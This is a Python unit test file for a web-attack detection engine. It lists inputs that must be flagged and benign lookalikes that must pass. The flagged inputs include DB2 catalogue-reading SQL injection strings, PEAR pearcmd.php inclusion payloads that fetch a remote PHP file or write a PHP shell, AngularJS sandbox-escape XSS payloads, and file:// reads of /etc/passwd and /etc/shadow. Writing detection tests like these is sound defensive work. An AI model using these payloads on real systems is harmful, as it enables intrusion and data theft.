"""Unit: the shapes of the fresh35 first contact.

DB2's catalogue read through its system schemas (``sysibm.``, ``syscat.``, ``sysibmadm.``, ``sysproc.``,
``sysstat.`` as a qualifier, ``sqli_grammar.CATALOGS``); PEAR's ``pearcmd.php`` included with its arguments in the
query (``signatures._SENSITIVE_FILE``); AngularJS sandbox escapes that take the Function constructor out of a property
descriptor and call it through ``call.call`` (``xss._DESCRIPTOR_CALL``); a JavaScript string ended by the word
operators ``in``/``instanceof`` before a sink (``xss._JS_BREAKOUT``); and the AWS/Azure command lines'
``file://name.json`` argument, which names a local file and opens nothing on a server (``ssrf._CLI_FILE_ARG``).
Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


REJECTED = {
    "db2 catalogue read": [
        "select creator, name from sysibm.systables where type = 'T'",
        "SELECT colname FROM syscat.columns WHERE tabname='ACCOUNTS'",
        "select current timestamp from sysibm.sysdummy1",
        "select host_name from sysibmadm.env_sys_info",
        "select distinct(grantee) from sysibm.sysdbauth",
        "select inst_name from table(sysproc.env_get_inst_info()) as t",
        " select banner from dual ",
    ],
    "pearcmd included with arguments": [
        "/usr/local/lib/php/pearcmd.php&+install+http://203.0.113.9/x.php",
        "page=/usr/share/php/pearcmd&+run-scripts+/tmp/a",
        "../../../usr/local/lib/php/pearcmd.php&/<?=`id`?>+/tmp/b.php",
    ],
    "angular descriptor call": [
        "{{(_=''.sub).call.call({}[$='constructor'].getOwnPropertyDescriptor(_.__proto__,$).value,0,'confirm(2)')()}}",
        "{{b={};c='constr'+'uctor';''.sub.call.call(b[c].getOwnPropertyDescriptor(b[c].getPrototypeOf(''.sub),c)"
        ".value, 0, 'print()')()}}",
    ],
    "string ended by a word operator": [
        "'a' in confirm(2) in 'b';",
        "\"x\" instanceof prompt(3) instanceof \"y\"",
    ],
    "file url with a path or a host": [
        "file:///etc/passwd",
        "file://etc/passwd",
        "file://localhost/etc/shadow",
        "file://127.0.0.1/c$/windows/win.ini",
        "file://attacker.example.com",
        "file://evil.zip",
        "file://passwd",
    ],
}

PASSED = {
    "db2 schema names in prose": [
        "The sysibm schema holds the catalogue; syscat holds read-only views over it.",
        "Our DBA says: query sysibm.sysversions to see the fix pack level.",
        "Move the figures from sysibmadm.env_inst_info into the inventory sheet",
        "Join the tables from sysproc.admin_cmd output with the job log.",
        "SYSIBM and SYSCAT are DB2 schema names.",
        "Pick rows from table(sysproc.env_get_inst_info()) in the DB2 docs.",
        "select x from table(my_udf(1)) as t",
    ],
    "pearcmd named in prose": [
        "PEAR installs /usr/share/php/pearcmd.php as its command-line entry point.",
        "see /usr/local/lib/php/pearcmd.php & the peclcmd.php next to it",
    ],
    "descriptors and call in code": [
        "const desc = Object.getOwnPropertyDescriptor(proto, 'name'); desc.get.call(obj);",
        "Reflect.apply(Object.getOwnPropertyDescriptor(Foo.prototype, 'bar').value, foo, [1, 2])",
        "uncurry = fn => Function.prototype.call.call(fn.bind, fn); d = Object.getOwnPropertyDescriptor(o, k);",
    ],
    "in and instanceof in prose and code": [
        "Press 'OK' in alert boxes, then 'Cancel' in prompt (the second one).",
        "Type 'yes' in confirm dialogs to continue.",
        "if ('key' in obj && obj instanceof Map) { alert_count++; }",
    ],
    "command-line file argument": [
        "file://policy.json",
        "aws iam create-policy --policy-name p --policy-document file://policy.json",
        "Use --cli-input-json file://input.json (see the CLI guide).",
        "az deployment group create --parameters file://params.yaml",
        "--tags file://tags.txt,",
    ],
}


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in REJECTED.items() for v in vs])
def test_fresh35_shape_is_rejected(engine: Engine, shape: str, value: str) -> None:
    for ctx in CONTEXTS:
        assert engine.inspect(value, ctx) is not None, (shape, value, ctx)


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in PASSED.items() for v in vs])
def test_fresh35_lookalike_passes(engine: Engine, shape: str, value: str) -> None:
    assert engine.inspect(value, BODY) is None, (shape, value)


def test_fresh35_new_searches_are_linear(engine: Engine) -> None:
    value = ("'a' in x .call.call( getOwnPropertyDescriptor( file://a.json pearcmd& " * 2000)[: 128 * 1024]
    start = time.process_time()
    engine.inspect(value, BODY)
    assert time.process_time() - start < 1.0
